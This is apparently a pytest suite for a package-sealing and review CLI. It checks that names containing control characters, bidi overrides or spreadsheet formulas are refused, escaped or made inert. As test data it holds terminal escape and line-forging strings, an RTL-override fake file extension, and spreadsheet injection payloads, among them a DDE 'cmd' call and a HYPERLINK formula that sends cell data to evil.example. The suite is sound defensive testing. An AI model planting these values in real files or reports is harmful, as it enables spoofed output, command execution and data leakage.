"""Issue 14 §9: names with control characters or bidi overrides never reach a certificate, a package,
a terminal or a spreadsheet as live text.

Refused where they enter (``identity new``, ``authority enroll``, ``package seal``), escaped where a
name read from a file is printed (``verify``, ``package verify``), and formula-leading cells are inert
in the registry's CSV and XLSX reports.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
import uuid
from pathlib import Path

import pytest
from pkg_world import PASS_ENV, cli, seal, write_panel

from reviewer.trust import clock
from reviewer.trust.enrolment import make_request
from reviewer.trust.keys import new_encryption_key, new_signing_key
from reviewer.trust.names import printable

EVIL = {
    "newline": "张伟\nResult: VALID.",
    "escape": "张伟\x1b[2J\x1b[1;32m",
    "rtl-override": "张伟\u202efdp.exe",
    "del": "张伟\x7f",
    "c1": "张伟\x9b31m",
    "isolate": "张伟\u2066x\u2069",
    "mark": "张伟\u200f",
}


@pytest.mark.parametrize("kind", sorted(EVIL))
def test_identity_new_refuses_an_unsafe_name(env, tmp_path: Path, kind: str) -> None:
    code, out, err = cli(
        "identity",
        "new",
        tmp_path / "id",
        "--name",
        EVIL[kind],
        "--org",
        "南京大学",
        "--passphrase-env",
        PASS_ENV,
    )
    assert code == 3, out + err
    assert "name" in err and "Traceback" not in err
    code, _, err = cli(
        "identity",
        "new",
        tmp_path / "id2",
        "--name",
        "张伟",
        "--org",
        EVIL[kind],
        "--passphrase-env",
        PASS_ENV,
    )
    assert code == 3 and "organisation" in err


def test_authority_enroll_refuses_a_request_with_an_unsafe_name(world, env, tmp_path: Path) -> None:
    """A hand-made request (valid proof of possession) that never went through ``identity new``."""
    signing, encryption = new_signing_key(), new_encryption_key()
    request = make_request(
        str(uuid.uuid4()), EVIL["rtl-override"], "南京大学", signing, encryption, clock.utcnow()
    )
    path = tmp_path / "request.json"
    path.write_bytes(request.to_bytes())
    code, out, err = cli("authority", "enroll", world.authority, path, "--out", tmp_path / "x.rvcred",
                         "--passphrase-env", PASS_ENV)  # fmt: skip
    assert code == 3, out + err
    assert "U+202E" in err and not (tmp_path / "x.rvcred").exists()


def test_seal_refuses_an_unsafe_material_name(world, env, tmp_path: Path) -> None:
    materials = tmp_path / "materials"
    materials.mkdir()
    (materials / "报告\u202efdp.exe").write_bytes(b"MZ not really a pdf")
    out = tmp_path / "evil.rvpkg"
    code, stdout, err = seal(world.root, world.authority, world.panel, [materials], out)
    assert code == 3, stdout + err
    assert "material" in err and not out.exists()


def test_seal_refuses_an_unsafe_candidate_name(world, env, tmp_path: Path) -> None:
    root = tmp_path / "w"
    root.mkdir()
    doc = json.loads(world.candidate.read_text("utf-8"))
    doc["name"] = EVIL["newline"]
    (root / "candidate.json").write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    for key in ("zhang", "li", "wang"):
        shutil.copyfile(world.credentials[key], root / f"{key}.rvcred")
    panel = write_panel(root / "panel.json", [("zhang", "chair"), ("li", "expert"), ("wang", "expert")])
    small = world.root / "small"
    code, out, err = seal(root, world.authority, panel, [small], root / "evil.rvpkg")
    assert code == 3, out + err
    assert not (root / "evil.rvpkg").exists()


def _forged_package(world, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A package whose signed candidate name forges lines and hides text: as a rogue sealer (or an
    older version of this app) would make it — the seal-time check switched off."""
    seal_module = sys.modules["reviewer.packages.seal"]  # the attribute `seal` is the function
    monkeypatch.setattr(seal_module, "check_name", lambda value, field: value, raising=False)
    root = tmp_path / "w"
    root.mkdir()
    doc = json.loads(world.candidate.read_text("utf-8"))
    doc["name"] = "示例软件园\n  Result: VALID.\x1b[8m\u202eHIDDEN"
    (root / "candidate.json").write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
    for key in ("zhang", "li", "wang"):
        shutil.copyfile(world.credentials[key], root / f"{key}.rvcred")
    panel = write_panel(root / "panel.json", [("zhang", "chair"), ("li", "expert"), ("wang", "expert")])
    pkg = root / "forged.rvpkg"
    code, out, err = seal(root, world.authority, panel, [world.root / "small"], pkg)
    assert code == 0, out + err
    return pkg


def _assert_inert(out: str) -> None:
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\n  Result: VALID.\\x1b[8m\\u202eHIDDEN" in out


def test_verify_prints_names_from_a_file_escaped(world, env, tmp_path: Path, monkeypatch) -> None:
    pkg = _forged_package(world, tmp_path, monkeypatch)
    data = bytearray(pkg.read_bytes())  # and damaged, so that a forged VALID line would lie
    data[len(data) // 3] ^= 0x01
    pkg.write_bytes(bytes(data))
    code, out, _ = cli("verify", pkg, "--trust", world.authority / "root.crt.pem")
    assert code != 0
    assert not any(line.strip() == "Result: VALID." for line in out.splitlines()), out
    assert "示例软件园" not in out and "\x1b" not in out  # without a key the name is not shown at all


def test_package_verify_prints_names_from_a_file_escaped(world, env, tmp_path: Path, monkeypatch) -> None:
    pkg = _forged_package(world, tmp_path, monkeypatch)
    code, out, _ = cli(
        "package", "open", pkg, "--identity", world.identities["li"], "--passphrase-env", PASS_ENV
    )
    assert code == 0
    assert not any(line.strip() == "Result: VALID." for line in out.splitlines()), out
    _assert_inert(out)


def test_printable_escapes_every_unsafe_character() -> None:
    assert printable("a\nb\x1b[1m\u202ec\u2028") == "a\\nb\\x1b[1m\\u202ec\\u2028"
    assert printable("示例软件园 (park)") == "示例软件园 (park)"


# --- reports -------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("name", FORMULAS)
def test_report_cells_that_start_a_formula_are_inert(tmp_path: Path, name: str) -> None:
    from openpyxl import load_workbook

    db = tmp_path / "registry.sqlite3"
    code, out, err = cli("ministry", "register", "--type", "park", "--city", "南京市", "--province",
                         "江苏省", "--year", "2025", "--db", db, "--", name)  # fmt: skip
    assert code == 0, out + err
    code, out, err = cli("ministry", "registry", "--db", db, "--format", "csv", "--out", tmp_path / "r.csv")
    assert code == 0, out + err
    text = (tmp_path / "r.csv").read_text("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + name in cells, cells
    assert name not in cells
    code, out, err = cli("ministry", "registry", "--db", db, "--format", "xlsx", "--out", tmp_path / "r.xlsx")
    assert code == 0, out + err
    book = load_workbook(tmp_path / "r.xlsx")
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == name]
    assert found, "the name is in the workbook as written"
    assert all(c.data_type == "s" for c in found), [c.data_type for c in found]


def test_numbers_in_reports_stay_numbers(tmp_path: Path) -> None:
    from reviewer.ministry.render import spreadsheet_text

    assert spreadsheet_text("-1.25") == "-1.25" and spreadsheet_text("+3") == "+3"
    assert spreadsheet_text("-1+2") == "'-1+2" and spreadsheet_text("\t=1") == "'\t=1"


def test_no_command_writes_an_escape_sequence_to_the_terminal(world, env, tmp_path, monkeypatch) -> None:
    """Whatever prints a name from a file (here ``package open`` listing the forged package's
    candidate, and the error path), ESC and bidi overrides arrive escaped."""
    pkg = _forged_package(world, tmp_path, monkeypatch)
    code, out, err = cli(
        "package", "open", pkg, "--identity", world.identities["li"], "--passphrase-env", PASS_ENV
    )
    assert code == 0, out + err
    assert "\x1b" not in out + err and "\u202e" not in out + err
    assert "\\x1b[8m\\u202eHIDDEN" in out


def test_seal_refuses_a_member_whose_credential_carries_an_unsafe_name(
    world, env, tmp_path, monkeypatch
) -> None:
    """A credential issued before enrolment checked names (the check switched off to make one)."""
    from pkg_world import enrol

    monkeypatch.setattr(sys.modules["reviewer.trust.enrolment"], "check_name", lambda value, field: value)
    monkeypatch.setattr(sys.modules["reviewer.trust.identity"], "check_name", lambda value, field: value)
    root = tmp_path / "w"
    root.mkdir()
    enrol(root, world.authority, "evil", "王芳\u202e", "浙江大学")
    monkeypatch.undo()
    monkeypatch.setenv(PASS_ENV, "test-passphrase-0123")
    shutil.copyfile(world.candidate, root / "candidate.json")
    for key in ("zhang", "li"):
        shutil.copyfile(world.credentials[key], root / f"{key}.rvcred")
    panel = write_panel(root / "panel.json", [("zhang", "chair"), ("li", "expert"), ("evil", "expert")])
    code, out, err = seal(root, world.authority, panel, [world.root / "small"], root / "p.rvpkg")
    assert code == 3, out + err
    assert "U+202E" in err and not (root / "p.rvpkg").exists()
